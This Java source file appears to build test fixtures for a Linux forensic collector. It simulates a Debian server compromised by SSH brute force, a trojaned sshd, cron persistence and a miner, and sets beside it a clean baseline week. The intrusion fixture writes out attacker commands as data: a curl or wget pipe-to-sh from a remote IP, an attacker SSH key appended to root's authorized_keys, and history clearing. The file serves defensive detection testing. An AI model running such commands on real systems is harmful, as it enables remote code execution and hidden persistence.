package dev.ferret.collect.linux.access;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.TreeMap;

/**
 * Fixture hosts for the access area: docs/threats.md#case-3 (SSH brute force, a root login, a key added, logs wiped, a
 * trojaned sshd, cron and a miner) on a Debian server with MySQL exposed, and the same server on an ordinary quiet
 * week. All logs are in real formats: syslog lines (rotated .1 and .2.gz), binary wtmp/btmp/lastlog records.
 */
public final class AccessScenarios {
    public static final Instant OLD = Instant.parse("2023-03-14T09:00:00Z");
    public static final Instant BOOT = Instant.parse("2024-03-05T06:00:10Z");
    public static final Instant START = Instant.parse("2024-03-05T06:01:00Z");
    public static final Instant END = Instant.parse("2024-03-11T12:00:00Z");
    public static final String ATTACKER = "203.0.113.50";
    public static final String ADMIN_HOST = "192.168.1.10";
    public static final Instant BRUTE_START = Instant.parse("2024-03-10T08:00:00Z");
    public static final int BRUTE_FAILURES = 300;
    public static final Instant ROOT_LOGIN = Instant.parse("2024-03-10T10:05:31Z");
    public static final Instant SSHD_REPLACED = Instant.parse("2024-03-10T10:06:40Z");
    public static final Instant KEY_ADDED = Instant.parse("2024-03-10T10:07:12Z");
    public static final Instant CRON_WRITTEN = Instant.parse("2024-03-10T10:08:05Z");
    public static final Instant MINER_DROPPED = Instant.parse("2024-03-10T10:08:31Z");
    public static final Instant MINER_STARTED = Instant.parse("2024-03-10T10:09:02Z");
    public static final Instant GAP_FROM = Instant.parse("2024-03-10T08:00:00Z");
    public static final Instant GAP_TO = Instant.parse("2024-03-10T17:00:00Z");
    /** logrotate's daily rotation times: auth.log/syslog hold from ROT1, .1 from ROT2, .2.gz the rest. */
    public static final Instant ROT1 = Instant.parse("2024-03-09T06:25:00Z");
    public static final Instant ROT2 = Instant.parse("2024-03-07T06:25:00Z");
    public static final byte[] SSHD_ORIGINAL = "\u007fELF original OpenSSH 8.4p1 sshd".getBytes(StandardCharsets.ISO_8859_1);
    public static final byte[] SSHD_TROJAN = "\u007fELF sshd with a password logger".getBytes(StandardCharsets.ISO_8859_1);
    public static final byte[] LS = "\u007fELF coreutils ls".getBytes(StandardCharsets.ISO_8859_1);
    public static final byte[] MINER = "\u007fELF\u0002\u0001\u0001 xmrig stratum+tcp://pool".getBytes(StandardCharsets.ISO_8859_1);
    public static final String CRON_LINE = "*/5 * * * * curl -fsSL http://218.248.40.228:8443/i.sh | sh";
    private static final ZoneId Z = AccessFixture.UTC;

    private AccessScenarios() {
    }

    public static String keyBlob(String seed) {
        byte[] b = new byte[51];
        byte[] s = seed.getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < b.length; i++) {
            b[i] = (byte) (s[i % s.length] + i);
        }
        return Base64.getEncoder().encodeToString(b);
    }

    /** Log lines by time, then split into the live file and its rotations. */
    static final class Log {
        final TreeMap<Instant, List<String>> lines = new TreeMap<>();

        void add(Instant t, String line) {
            lines.computeIfAbsent(t, k -> new ArrayList<>()).add(line);
        }

        String between(Instant from, Instant to) {
            StringBuilder b = new StringBuilder();
            lines.subMap(from, true, to, false).values().forEach(l -> l.forEach(x -> b.append(x).append('\n')));
            return b.toString();
        }

        Instant lastBefore(Instant to) {
            return lines.lowerKey(to);
        }
    }

    /** Writes a log and its rotations (.1 plain, .2.gz), each with the mtime of its last line. */
    static void write(AccessFixture f, String base, Log log) {
        f.file(base, log.between(ROT1, END.plusSeconds(1)));
        f.file(base + ".1", log.between(ROT2, ROT1));
        f.gzip(base + ".2.gz", log.between(START.minusSeconds(3600), ROT2));
    }

    static void times(AccessFixture f, String base, Log log) {
        f.mtime(base, log.lastBefore(END.plusSeconds(1)));
        f.mtime(base + ".1", log.lastBefore(ROT1));
        f.mtime(base + ".2.gz", log.lastBefore(ROT2));
    }

    /** Cron every ten minutes (auth.log: PAM sessions; syslog: the CRON line) and a kernel boot line. */
    private static void routine(Log auth, Log syslog, boolean wipeSyslog) {
        syslog.add(BOOT, AccessFixture.bsd(BOOT, Z, "web01", "kernel", 0, "[    0.000000] Linux version 6.1.0-18-amd64"));
        int pid = 20000;
        for (Instant t = START; t.isBefore(END); t = t.plus(Duration.ofMinutes(10))) {
            pid++;
            auth.add(t, AccessFixture.bsd(t, Z, "web01", "CRON", pid,
                    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"));
            auth.add(t.plusSeconds(1), AccessFixture.bsd(t.plusSeconds(1), Z, "web01", "CRON", pid,
                    "pam_unix(cron:session): session closed for user root"));
            if (wipeSyslog && !t.isBefore(GAP_FROM) && t.isBefore(GAP_TO)) {
                continue;
            }
            syslog.add(t, AccessFixture.bsd(t, Z, "web01", "CRON", pid,
                    "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"));
            syslog.add(t.plusSeconds(3), AccessFixture.bsd(t.plusSeconds(3), Z, "web01", "systemd", 1,
                    "Started sysstat-collect.service - system activity accounting tool."));
        }
    }

    /** The admin's morning logins from the office, with a key. */
    private static void adminLogins(Log auth, AccessFixture.Records wtmp) {
        for (Instant day = Instant.parse("2024-03-05T09:00:00Z"); day.isBefore(END); day = day.plus(Duration.ofDays(1))) {
            auth.add(day, AccessFixture.bsd(day, Z, "web01", "sshd", 31000, "Accepted publickey for admin from "
                    + ADMIN_HOST + " port 51000 ssh2: ED25519 SHA256:adminKeyFingerprint0000000000000000000000"));
            wtmp.login("admin", "pts/0", ADMIN_HOST, day.plusMillis(300));
            wtmp.logout("pts/0", day.plus(Duration.ofMinutes(40)));
        }
    }

    private static void base(AccessFixture f, boolean compromised) {
        f.file("/etc/timezone", "Etc/UTC\n")
                .file("/etc/hostname", "web01\n")
                .file("/etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 11 (bullseye)\"\nID=debian\nVERSION_ID=\"11\"\n")
                .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nmysql:x:27:27:MySQL:/var/lib/mysql:/bin/false\n"
                        + "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nadmin:x:1000:1000:Admin:/home/admin:/bin/bash\n")
                .file("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin "
                        + (compromised ? "yes" : "prohibit-password") + "\nUsePAM yes\n")
                .file("/etc/mysql/my.cnf", "!includedir /etc/mysql/conf.d/\n!includedir /etc/mysql/mysql.conf.d/\n")
                .file("/etc/mysql/mysql.conf.d/mysqld.cnf", "[mysqld]\npid-file = /var/run/mysqld/mysqld.pid\n"
                        + "bind-address = " + (compromised ? "0.0.0.0" : "127.0.0.1") + "\n")
                .file("/etc/nginx/nginx.conf", "user " + (compromised ? "root" : "www-data") + ";\nworker_processes auto;\n")
                .file("/home/admin/.ssh/authorized_keys", "ssh-ed25519 " + keyBlob("admin") + " admin@laptop\n")
                .file("/home/admin/.bash_history", "ls -la\nsudo systemctl status nginx\nsudo apt update\n")
                .bytes("/usr/sbin/sshd", compromised ? SSHD_TROJAN : SSHD_ORIGINAL)
                .bytes("/usr/sbin/mysqld", "\u007fELF mysqld".getBytes(StandardCharsets.ISO_8859_1))
                .bytes("/usr/bin/ls", LS)
                .file("/var/lib/dpkg/info/openssh-server.list", "/.\n/usr\n/usr/sbin\n/usr/sbin/sshd\n")
                .file("/var/lib/dpkg/info/openssh-server.md5sums", AccessFixture.md5(SSHD_ORIGINAL) + "  usr/sbin/sshd\n")
                .file("/var/lib/dpkg/info/coreutils.list", "/.\n/usr\n/usr/bin\n/usr/bin/ls\n")
                .file("/var/lib/dpkg/info/coreutils.md5sums", AccessFixture.md5(LS) + "  usr/bin/ls\n")
                .file("/var/lib/dpkg/info/mysql-server-core-8.0.list", "/usr/sbin/mysqld\n")
                .file("/var/lib/dpkg/status", "Package: openssh-server\nStatus: install ok installed\nVersion: 1:8.4p1-5+deb11u3\n\n"
                        + "Package: mysql-server-core-8.0\nStatus: install ok installed\nVersion: 8.0.36-1\n\n"
                        + "Package: nginx-core\nStatus: install ok installed\nVersion: 1.18.0-6.1+deb11u3\n\n"
                        + (compromised ? "Package: php7.4-common\nStatus: install ok installed\nVersion: 7.4.33-1+deb11u4\n\n"
                        : "Package: php8.2-common\nStatus: install ok installed\nVersion: 8.2.7-1\n\n")
                        + "Package: php5-common\nStatus: deinstall ok config-files\nVersion: 5.6.40\n\n");
    }

    /** Case 3 on a Debian 11 web/database server. */
    public static AccessFixture intrusion(AccessFixture f) {
        base(f, true);
        Log auth = new Log();
        Log syslog = new Log();
        routine(auth, syslog, true);
        AccessFixture.Records wtmp = new AccessFixture.Records().boot(BOOT);
        AccessFixture.Records btmp = new AccessFixture.Records();
        adminLogins(auth, wtmp);
        String[] users = {"root", "admin", "test", "oracle", "ubuntu"};
        for (int i = 0; i < BRUTE_FAILURES; i++) {
            Instant t = BRUTE_START.plusSeconds(i * 25L);
            String user = users[i % users.length];
            int pid = 40000 + i;
            if (user.equals("oracle") || user.equals("test")) {
                auth.add(t, AccessFixture.bsd(t, Z, "web01", "sshd", pid, "Invalid user " + user + " from " + ATTACKER
                        + " port " + (40000 + i)));
                auth.add(t.plusSeconds(2), AccessFixture.bsd(t.plusSeconds(2), Z, "web01", "sshd", pid,
                        "Failed password for invalid user " + user + " from " + ATTACKER + " port " + (40000 + i) + " ssh2"));
            } else {
                auth.add(t.plusSeconds(2), AccessFixture.bsd(t.plusSeconds(2), Z, "web01", "sshd", pid,
                        "Failed password for " + user + " from " + ATTACKER + " port " + (40000 + i) + " ssh2"));
            }
            btmp.failure(user, ATTACKER, t.plusSeconds(2));
        }
        auth.add(ROOT_LOGIN, AccessFixture.bsd(ROOT_LOGIN, Z, "web01", "sshd", 45001,
                "Accepted password for root from " + ATTACKER + " port 50122 ssh2"));
        auth.add(ROOT_LOGIN.plusSeconds(1), AccessFixture.bsd(ROOT_LOGIN.plusSeconds(1), Z, "web01", "sshd", 45001,
                "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"));
        wtmp.login("root", "pts/1", ATTACKER, ROOT_LOGIN.plusMillis(400));
        write(f, "/var/log/auth.log", auth);
        write(f, "/var/log/syslog", syslog);
        f.bytes("/var/log/wtmp", wtmp.chronological()).bytes("/var/log/btmp", btmp.chronological())
                .bytes("/var/log/lastlog", AccessFixture.lastlog(1000,
                        new Object[] {0, ROOT_LOGIN, "pts/1", ATTACKER},
                        new Object[] {1000, Instant.parse("2024-03-11T09:00:00Z"), "pts/0", ADMIN_HOST}));
        f.file("/root/.ssh/authorized_keys", "ssh-ed25519 " + keyBlob("admin") + " admin@laptop\n"
                        + "ssh-rsa " + keyBlob("attacker") + " root@kali\n")
                .file("/var/spool/cron/crontabs/root", CRON_LINE + "\n")
                .bytes("/root/.bashtemp/kswapd0", MINER)
                .file("/root/.bash_history", "#" + ROOT_LOGIN.plusSeconds(20).getEpochSecond() + "\nw\n"
                        + "#" + ROOT_LOGIN.plusSeconds(40).getEpochSecond() + "\nwget -q -O- http://218.248.40.228:8443/i.sh | sh\n"
                        + "#" + KEY_ADDED.minusSeconds(5).getEpochSecond() + "\necho 'ssh-rsa " + keyBlob("attacker")
                        + " root@kali' >> /root/.ssh/authorized_keys\n"
                        + "#" + MINER_STARTED.plusSeconds(30).getEpochSecond() + "\nhistory -c\n");
        f.allModifiedAt(OLD);
        f.at("/root/.bashtemp/kswapd0").toFile().setExecutable(true, false);
        times(f, "/var/log/auth.log", auth);
        times(f, "/var/log/syslog", syslog);
        f.mtime("/var/log/wtmp", ROOT_LOGIN).mtime("/var/log/btmp", BRUTE_START.plusSeconds(25L * BRUTE_FAILURES))
                .mtime("/var/log/lastlog", ROOT_LOGIN)
                .mtime("/usr/sbin/sshd", SSHD_REPLACED)
                .mtime("/root/.ssh/authorized_keys", KEY_ADDED)
                .mtime("/var/spool/cron/crontabs/root", CRON_WRITTEN)
                .mtime("/root/.bashtemp/kswapd0", MINER_DROPPED)
                .mtime("/root/.bash_history", MINER_STARTED.plusSeconds(35));
        return f;
    }

    /** The same server on an ordinary week: busy logs without gaps, the admin's logins, a few failed logins. */
    public static AccessFixture quiet(AccessFixture f) {
        base(f, false);
        Log auth = new Log();
        Log syslog = new Log();
        routine(auth, syslog, false);
        AccessFixture.Records wtmp = new AccessFixture.Records().boot(BOOT);
        AccessFixture.Records btmp = new AccessFixture.Records();
        adminLogins(auth, wtmp);
        for (int i = 0; i < 3; i++) {
            Instant t = Instant.parse("2024-03-08T14:00:00Z").plusSeconds(i * 7L);
            auth.add(t, AccessFixture.bsd(t, Z, "web01", "sshd", 50000 + i, "Failed password for admin from 198.51.100.7 port "
                    + (52000 + i) + " ssh2"));
            btmp.failure("admin", "198.51.100.7", t);
        }
        write(f, "/var/log/auth.log", auth);
        write(f, "/var/log/syslog", syslog);
        f.bytes("/var/log/wtmp", wtmp.chronological()).bytes("/var/log/btmp", btmp.chronological())
                .bytes("/var/log/lastlog", AccessFixture.lastlog(1000,
                        new Object[] {1000, Instant.parse("2024-03-11T09:00:00Z"), "pts/0", ADMIN_HOST}))
                .file("/root/.ssh/authorized_keys", "ssh-ed25519 " + keyBlob("admin") + " admin@laptop\n")
                .file("/root/.bash_history", "apt update\napt upgrade\nsystemctl restart nginx\njournalctl -u nginx\n");
        f.allModifiedAt(OLD);
        times(f, "/var/log/auth.log", auth);
        times(f, "/var/log/syslog", syslog);
        f.mtime("/var/log/wtmp", Instant.parse("2024-03-11T09:40:00Z")).mtime("/var/log/btmp", Instant.parse("2024-03-08T14:00:14Z"))
                .mtime("/var/log/lastlog", Instant.parse("2024-03-11T09:00:00Z"));
        return f;
    }
}
